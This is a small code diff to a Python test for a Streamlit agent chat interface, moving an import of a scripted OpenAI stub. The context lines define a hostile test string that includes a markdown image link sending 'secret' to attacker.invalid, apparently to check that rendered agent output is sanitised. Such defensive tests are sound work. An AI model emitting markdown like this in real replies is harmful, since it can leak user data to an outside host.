@@ -9,10 +9,10 @@ import pytest
 from langchain_community.callbacks.streamlit.streamlit_callback_handler import (
     StreamlitCallbackHandler,
 )
-from scripted_openai import Reply, ScriptedOpenAI, ToolCall
 from streamlit.testing.v1 import AppTest
 
 from streamlit_agent.ui.chat import LiveSteps
+from tests.scripted_openai import Reply, ScriptedOpenAI, ToolCall
 
 HOSTILE = "![x](http://attacker.invalid/?d=secret) <b>bold</b> **not bold** $x$"
 
